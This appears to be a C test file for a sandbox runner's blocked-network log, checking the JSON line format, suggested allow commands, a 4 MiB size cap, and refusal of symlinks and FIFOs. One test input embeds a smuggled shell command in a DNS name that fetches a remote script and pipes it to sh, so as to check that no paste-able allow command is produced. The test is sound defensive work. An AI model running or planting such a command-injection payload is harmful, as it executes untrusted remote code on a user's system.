/* The run's blocked.jsonl (runner/docker/blocked_log.h): the line format of
 * issue 12's contract (time, count, allow added), only block types, the
 * 4 MiB bound with one log-full line, never through a link or a FIFO, and
 * the owner's EVENT lines reaching it through pod_handle_line. */
#include "tap.h"

#include <cjson/cJSON.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/util.h"
#include "runner/docker/blocked_log.h"
#include "runner/docker/pod.h"

static char *line_of(const char *event_json, const char *id)
{
	cleanup_json cJSON *ev = cJSON_Parse(event_json);

	return ev ? blocked_log_line(ev, id, 1796306401) : NULL;    /* 2026-12-03T14:00:01Z */
}

static char *slurp(const char *path, size_t *len)
{
	static char b[BLOCKED_LOG_CAP + 4096];
	int fd = open(path, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);

	if (fd >= 0)
		close(fd);
	*len = n > 0 ? (size_t)n : 0;
	b[*len] = '\0';
	return b;
}

static void formats(void)
{
	char *l;

	l = line_of("{\"type\":\"dns-refused\",\"name\":\"x.org\",\"qtype\":\"A\"}", "ab12");
	is_str(l, "{\"time\":\"2026-12-03T14:00:01Z\",\"type\":\"dns-refused\",\"name\":\"x.org\","
	       "\"qtype\":\"A\",\"count\":1,\"allow\":\"codex-sandbox allow ab12 x.org\"}",
	       "dns-refused: time, count 1, the allow command");
	free(l);
	l = line_of("{\"type\":\"conn\",\"addr\":\"203.0.113.5\",\"proto\":\"tcp\",\"port\":443,\"count\":3}", "ab12");
	is_str(l, "{\"time\":\"2026-12-03T14:00:01Z\",\"type\":\"conn\",\"addr\":\"203.0.113.5\",\"port\":443,"
	       "\"proto\":\"tcp\",\"count\":3,\"allow\":\"codex-sandbox allow ab12 203.0.113.5\"}",
	       "conn without a name: count kept, allow names the address");
	free(l);
	l = line_of("{\"type\":\"conn\",\"addr\":\"203.0.113.5\",\"proto\":\"udp\",\"port\":53,\"count\":2,"
		    "\"name\":\"n.test\"}", "ab12");
	ok(l && strstr(l, "\"allow\":\"codex-sandbox allow ab12 n.test\""), "conn with a name: allow names it");
	free(l);
	l = line_of("{\"type\":\"dns-rebind\",\"name\":\"n.test\",\"addr\":\"10.0.0.1\",\"reason\":\"private\"}", "i");
	ok(l && strstr(l, "\"reason\":\"private\"") && strstr(l, "allow i 10.0.0.1\""),
	   "dns-rebind: the reason, allow names the address");
	free(l);
	/* the agent chooses query names: one that is no valid entry is logged,
	 * but never offered as a command to paste */
	l = line_of("{\"type\":\"dns-refused\",\"name\":\"$({curl,-s,x.io/a}|sh)\",\"qtype\":\"A\"}", "ab12");
	ok(l && strstr(l, "curl") && !strstr(l, "\"allow\""), "a refused name that is no host name: no allow command");
	free(l);
	l = line_of("{\"type\":\"flow-refused\",\"addr\":\"192.0.2.8\",\"port\":443,\"name\":\"@npm\"}", "ab12");
	ok(l && !strstr(l, "\"allow\""), "a refused SNI that reads like a preset: no allow command");
	free(l);
	l = line_of("{\"type\":\"flow-refused\",\"addr\":\"192.0.2.8\",\"port\":443,\"reason\":\"no SNI\"}", "ab12");
	ok(l && !strstr(l, "\"allow\""), "a flow refused without a name: never the edge's address (it would "
	   "exempt every site on it)");
	free(l);
	l = line_of("{\"type\":\"dns-upstream-failed\",\"name\":\"n.test\",\"reason\":\"no answer\"}", "i");
	ok(l && !strstr(l, "allow"), "dns-upstream-failed: no allow command (the name is allowed)");
	free(l);
	ok(!(l = line_of("{\"type\":\"fatal\",\"message\":\"x\"}", "i")), "fatal is not a line");
	free(l);
	ok(!(l = line_of("{\"type\":\"insert-failed\",\"message\":\"x\"}", "i")), "insert-failed is not a line");
	free(l);
	ok(!(l = line_of("{\"type\":7}", "i")), "a non-string type is not a line");
	free(l);
	l = line_of("{\"type\":\"conn\",\"addr\":\"a\\n\\u0000b\",\"port\":70000,\"count\":-4}", "i");
	ok(l && !strchr(l, '\n') && !strstr(l, "70000") && strstr(l, "\"count\":1"),
	   "hostile fields: one line, no out-of-range port, count at least 1");
	free(l);
}

static void bounded(const char *dir)
{
	char path[300], link[300], fifo[300];
	struct blocked_log l;
	struct cs_err err = { 0 };
	cleanup_json cJSON *ev = cJSON_Parse("{\"type\":\"dns-refused\",\"name\":\"x.org\"}");
	size_t len, lines = 0;
	char *b, *last;

	snprintf(path, sizeof path, "%s/blocked.jsonl", dir);
	close(open(path, O_CREAT | O_WRONLY, 0644));
	ok(blocked_log_open(&l, path, "id", &err) == 0, "opens the run dir's empty file");
	for (int i = 0; i < 100000; i++)
		blocked_log_event(&l, ev);
	blocked_log_close(&l);
	b = slurp(path, &len);
	for (size_t i = 0; i < len; i++)
		lines += b[i] == '\n';
	ok(len <= BLOCKED_LOG_CAP, "100000 events: the file stays within 4 MiB (%zu bytes, %zu lines)",
	   len, lines);
	b[len - 1] = '\0';
	last = strrchr(b, '\n');
	ok(last && strstr(last, "\"type\":\"log-full\"") && !strstr(last + 1, "x.org"),
	   "...its last line says log-full");
	ok(strstr(b, "log-full") == strstr(last, "log-full"), "...once");

	snprintf(link, sizeof link, "%s/link.jsonl", dir);
	(void)!symlink(path, link);
	ok(blocked_log_open(&l, link, "id", &err) < 0, "a link in its place is refused");
	snprintf(fifo, sizeof fifo, "%s/fifo.jsonl", dir);
	mkfifo(fifo, 0644);
	ok(open(fifo, O_RDONLY | O_NONBLOCK) >= 0 && blocked_log_open(&l, fifo, "id", &err) < 0,
	   "a FIFO in its place is refused");
}

static void through_pod(const char *dir)
{
	static struct pod pod;
	char path[300];
	struct cs_err err = { 0 };
	const char ev[] = "EVENT {\"type\":\"dns-refused\",\"name\":\"live.test\",\"qtype\":\"A\"}";
	const char sum[] = "SUMMARY {\"type\":\"dns-refused\",\"name\":\"sum.test\",\"count\":3}";
	size_t len;
	char *b;

	snprintf(path, sizeof path, "%s/pod.jsonl", dir);
	close(open(path, O_CREAT | O_WRONLY, 0644));
	pod_init(&pod);
	pod_handle_line(&pod, ev, sizeof ev - 1);       /* no log open yet: only a record */
	ok(pod_open_blocked_log(&pod, path, "run1", &err) == 0, "the pod opens the log");
	pod_handle_line(&pod, ev, sizeof ev - 1);
	pod_handle_line(&pod, sum, sizeof sum - 1);
	b = slurp(path, &len);
	ok(strstr(b, "\"name\":\"live.test\"") && strstr(b, "allow run1 live.test") && !strstr(b, "sum.test"),
	   "an EVENT line is appended at once (SUMMARY lines are not)");
	is_int(cJSON_GetArraySize(pod.records), 3, "...and all three are still records (--log-blocked)");
	blocked_log_close(&pod.blog);
	/* a long run: EVENT records up to their bound never crowd out the SUMMARY */
	for (int i = 0; i < POD_MAX_RECORDS + 10; i++)
		pod_handle_line(&pod, ev, sizeof ev - 1);
	pod_handle_line(&pod, sum, sizeof sum - 1);
	is_int(cJSON_GetArraySize(pod.records), POD_MAX_RECORDS + 2,
	       "EVENT records stop at their bound; the SUMMARY after them is still kept");
	cJSON_Delete(pod.records);
	buf_free(&pod.line);
	buf_free(&pod.err_tail);
}

int main(void)
{
	char dir[] = "/tmp/cs-blog.XXXXXX";

	plan(22);
	if (!mkdtemp(dir))
		return 1;
	formats();
	bounded(dir);
	through_pod(dir);
	{
		char cmd[100];

		snprintf(cmd, sizeof cmd, "rm -rf %s", dir);
		(void)!system(cmd);
	}
	return tap_done();
}
